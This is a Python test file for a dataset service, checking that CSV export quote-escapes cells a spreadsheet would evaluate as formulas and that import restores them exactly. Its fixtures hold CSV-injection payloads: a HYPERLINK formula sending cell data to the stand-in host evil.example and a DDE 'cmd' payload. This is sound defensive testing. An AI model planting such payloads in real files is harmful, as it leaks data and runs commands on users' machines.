"""CSV exports neutralise cells a spreadsheet would run as formulas, and import restores them exactly."""

from __future__ import annotations

import csv
import io

import pytest

from datasets_client import add_items, client, items, new_dataset

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ITEMS = [
    {"input": '=HYPERLINK("http://evil.example/?"&A1,"click")', "expected_output": "=1+1",
     "metadata": {"note": "=cmd|' /C calc'!A0", "plain": "fine"}, "topic": "@topic", "tags": ["-tag", "ok"]},
    {"input": "+1", "expected_output": "-2 apples"},
    {"input": "@SUM(A1:A9)", "expected_output": "\ttabbed"},
    {"input": "\rcarriage", "expected_output": "'=already quoted"},
    {"input": "''two quotes", "expected_output": "'plain quote stays"},
    {"input": "an ordinary question", "expected_output": "an = inside is fine"},
]


@pytest.fixture(scope="module")
def http(shared_server):
    with client(shared_server) as c:
        yield c


def test_formula_cells_are_quoted_in_csv_and_imported_back_exactly(http):
    source = new_dataset(http)["id"]
    add_items(http, source, ITEMS)
    resp = http.get(f"/api/datasets/{source}/export", params={"format": "csv"})
    assert resp.status_code == 200, resp.text
    rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
    assert len(rows) == len(ITEMS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), (column, cell)  # nothing a spreadsheet would evaluate
    first = rows[0]
    assert first["input"] == "'" + ITEMS[0]["input"] and first["expected_output"] == "'=1+1"
    assert (first["metadata.note"], first["metadata.plain"], first["topic"]) == ("'=cmd|' /C calc'!A0", "fine", "'@topic")
    assert rows[1]["input"] == "'+1" and rows[2]["expected_output"] == "'\ttabbed"
    assert rows[3]["expected_output"] == "''=already quoted"  # quoted again, so import can tell them apart
    assert rows[4]["expected_output"] == "'plain quote stays" and rows[5]["input"] == "an ordinary question"

    copy = new_dataset(http)["id"]
    resp = http.post(f"/api/datasets/{copy}/import", content=resp.content, headers={"content-type": "text/csv"})
    assert resp.status_code == 201, resp.text
    again = items(http, copy)
    assert [(i["input"], i["expected_output"]) for i in again] == [(i["input"], i["expected_output"]) for i in ITEMS]
    assert again[0]["metadata"] == ITEMS[0]["metadata"]
    assert (again[0]["topic"], again[0]["tags"]) == ("@topic", ["-tag", "ok"])


def test_neutralise_and_restore_are_inverse():
    from spanlake.datasets.csv_safety import neutralise_cell, restore_cell

    for text in ["=x", "+", "-", "@", "\t", "\r", "'", "''", "'=", "'''=", "'a", "a", "", "=' "]:
        escaped = neutralise_cell(text)
        assert restore_cell(escaped) == text
        assert not escaped.startswith(TRIGGERS)
